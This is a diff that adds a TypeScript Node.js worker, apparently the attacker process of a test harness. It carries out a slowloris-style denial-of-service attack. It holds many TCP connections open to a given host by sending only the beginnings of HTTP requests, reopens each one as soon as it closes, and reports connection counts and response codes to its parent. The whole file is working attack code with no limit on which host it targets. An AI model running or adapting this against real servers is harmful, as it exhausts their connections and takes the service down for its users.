@@ -1,0 +1,46 @@
+import { connect } from "node:net";
+import type { Attack, FromAttacker } from "./attacker-messages.ts";
+
+/** A connection that was closed is opened again after so many milliseconds. */
+const AGAIN_MS = 100;
+const OPENED_PER_TURN = 50;
+
+const answers: Record<string, number> = {};
+let open = 0;
+let opened = 0;
+
+/** Keeps one connection on which no more comes than the beginning of a request, and opens it again when it is closed. */
+const hold = ({ port, host, starts }: Attack, index: number): void => {
+  const socket = connect({ port, host, noDelay: true });
+  socket.setEncoding("latin1");
+  socket.once("connect", () => {
+    open += 1;
+    opened += 1;
+    socket.once("close", () => void (open -= 1));
+    socket.write(starts[index % starts.length] ?? "");
+  });
+  socket.on("data", (chunk: string) => {
+    const status = /^HTTP\/1\.1 (\d{3})/u.exec(chunk)?.[1];
+    if (status !== undefined) answers[status] = (answers[status] ?? 0) + 1;
+  });
+  socket.on("error", () => undefined);
+  socket.once("close", () => setTimeout(() => hold({ port, host, starts, sockets: 1 }, index), AGAIN_MS));
+};
+
+const begin = (attack: Attack): void => {
+  let begun = 0;
+  const turn = (): void => {
+    for (let count = 0; count < OPENED_PER_TURN && begun < attack.sockets; count += 1, begun += 1) hold(attack, begun);
+    if (begun < attack.sockets) setTimeout(turn, 10);
+  };
+  turn();
+};
+
+const tell = (message: FromAttacker): void => void process.send?.(message);
+
+process.on("message", (message: Attack | "report") => {
+  if (message === "report") tell({ open, opened, answers });
+  else begin(message);
+});
+process.on("disconnect", () => process.exit());
+tell({ open, opened, answers });
